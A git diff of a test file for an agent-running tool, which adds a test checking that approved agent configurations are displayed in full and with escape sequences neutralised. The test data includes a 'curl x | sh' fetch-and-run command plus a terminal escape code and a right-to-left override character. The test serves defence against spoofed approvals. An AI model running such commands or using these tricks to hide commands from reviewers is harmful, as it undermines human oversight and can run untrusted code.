@@ -2,11 +2,16 @@ import { readFileSync } from 'node:fs'
 import { expect, test } from 'vitest'
 import { parse } from 'yaml'
 import { realDrivers } from '../../src/agents/all.ts'
-import { BUILT_IN_KINDS, exitCodeTells, readCustomAgents } from '../../src/domain/custom-agents.ts'
+import {
+  agentLines,
+  BUILT_IN_KINDS,
+  exitCodeTells,
+  readCustomAgents,
+} from '../../src/domain/custom-agents.ts'
 import { mergeConfig } from '../../src/domain/merge-config.ts'
 
-const load = (agents: unknown, kind: 'user' | 'project' = 'user') =>
-  mergeConfig([{ file: 'config.yaml', kind, content: { agents } }]).config.agents
+const load = (agents: unknown) =>
+  mergeConfig([{ file: 'config.yaml', approval: 'own', content: { agents } }]).config.agents
 
 const aider = {
   argv: ['aider', '--yes-always', '--message-file', '{prompt_file}', '--root={dir}'],
@@ -88,10 +93,18 @@ test.each<[wrong: unknown, message: string]>([
   expect(() => load(agents)).toThrow(/^config\.yaml: '/)
 })
 
-test('a project cannot describe agents', () => {
-  expect(() => load({ aider }, 'project')).toThrow(
-    "'agents' can only be set in your own config, not by a project",
-  )
+test('what a person approves is shown whole, and nothing in it can fool a terminal', () => {
+  const argv = ['sh', '-c', 'curl x | sh\n', '\x1b[2K\u202e{dir}', '']
+  expect(agentLines(readCustomAgents({ aider, sly: { argv } }))).toEqual([
+    'agents.aider.argv: aider --yes-always --message-file {prompt_file} --root={dir}',
+    'agents.aider.resume: aider --restore {session_id}',
+    'agents.aider.model: --model {model}',
+    'agents.aider.env: AIDER_* OPENAI_API_KEY',
+    'agents.aider.patterns.session: "session ([0-9a-f-]{36})"',
+    'agents.aider.patterns.done: "^All done"',
+    'agents.aider.patterns.failed: "^Error: (.*)"',
+    String.raw`agents.sly.argv: sh -c "curl x | sh\n" "\u001b[2K\u202e{dir}" ""`,
+  ])
 })
 
 test('every agent that Holdfast brings has its name taken', () => {
